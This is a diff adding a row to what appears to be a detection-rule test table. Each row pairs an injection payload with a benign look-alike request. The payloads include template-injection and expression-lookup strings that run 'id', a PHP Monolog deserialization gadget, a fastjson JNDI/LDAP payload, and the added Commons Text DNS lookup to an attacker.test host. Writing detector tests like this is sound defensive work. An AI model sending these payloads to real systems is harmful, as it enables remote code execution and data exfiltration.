@@ -56,6 +56,7 @@ const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
   [9001326, 'child_process required and called in one expression', json('{"sheet":[".es(*).props(label.__proto__.env.A=\'require(\\"child_process\\").exec(\\"id\\")\')"]}'), json('{"content":"const { exec } = require(\'child_process\');\\nexec(\'git rev-parse HEAD\')"}')],
   [9001013, 'a PHP serialized Monolog handler', form('data=O%3A32%3A%22Monolog%5CHandler%5CSyslogUdpHandler%22%3A1%3A%7Bs%3A9%3A%22%00*%00socket%22%3BN%3B%7D'), form('data=O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bi%3A1%3B%7D')],
   [9001327, 'a Commons Text script lookup', q('q=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime().exec(%27id%27)%7D'), q('tpl=%24%7Bscript.name%7D+and+%24%7Burl%7D')],
+  [9001327, 'a Commons Text DNS lookup of an outside name', json('{"text":"${dns:address|x1y2.attacker.test}","lang":"fr"}'), json('{"text":"${dns} and ${address|upper} are placeholders"}')],
   [9001328, 'a Twig filter callback to system', json('{"name":"{{[\'id\']|filter(\'system\')}}"}'), json('{"name":"{{ items|filter(v => v.active) }}"}')],
   [9001328, 'an ERB tag with backticks', form('tpl=%3C%25%3D+%60id%60+%25%3E'), form('tpl=%3C%25%3D+user.name+%25%3E')],
   [9001015, 'a fastjson @type key spelled with \\x escapes', json('{"@\\x74ype":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.test:1389/E","autoCommit":true}'), json('{"@context":"https://schema.org","@type":"Person","name":"Ann","url":"https://example.com"}')],
